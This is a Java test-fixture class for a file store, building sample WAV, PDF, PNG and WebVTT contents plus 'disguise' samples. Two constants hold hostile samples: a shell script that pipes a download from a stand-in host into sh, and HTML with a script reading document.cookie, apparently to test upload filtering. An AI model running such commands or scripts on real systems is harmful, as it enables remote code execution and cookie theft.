package de.lagezentrum.platform.files;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.Random;

/** Content for file store tests: real headers of real formats, and disguises. */
final class TestFiles {

    private TestFiles() {
    }

    /** A WAV file (PCM, mono, 8 kHz, 16 bit) of the given total length, with noise as samples. */
    static byte[] wav(int length) {
        ByteBuffer wav = ByteBuffer.allocate(length).order(ByteOrder.LITTLE_ENDIAN);
        wav.put("RIFF".getBytes(StandardCharsets.US_ASCII)).putInt(length - 8).put("WAVE".getBytes(StandardCharsets.US_ASCII));
        wav.put("fmt ".getBytes(StandardCharsets.US_ASCII)).putInt(16).putShort((short) 1).putShort((short) 1)
                .putInt(8000).putInt(16000).putShort((short) 2).putShort((short) 16);
        wav.put("data".getBytes(StandardCharsets.US_ASCII)).putInt(length - 44);
        byte[] samples = new byte[length - 44];
        new Random(length).nextBytes(samples);
        wav.put(samples);
        return wav.array();
    }

    static final byte[] SHELL_SCRIPT = "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n".getBytes(StandardCharsets.UTF_8);

    static final byte[] HTML = "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
            .getBytes(StandardCharsets.UTF_8);

    static final byte[] PDF = "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);

    static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R',
        0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0};

    static final byte[] WEBVTT = "WEBVTT\n\n00:00.000 --> 00:02.000\nGuten Morgen aus dem Rathaus.\n"
            .getBytes(StandardCharsets.UTF_8);

    static String sha256(byte[] content) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(content));
        }
        catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
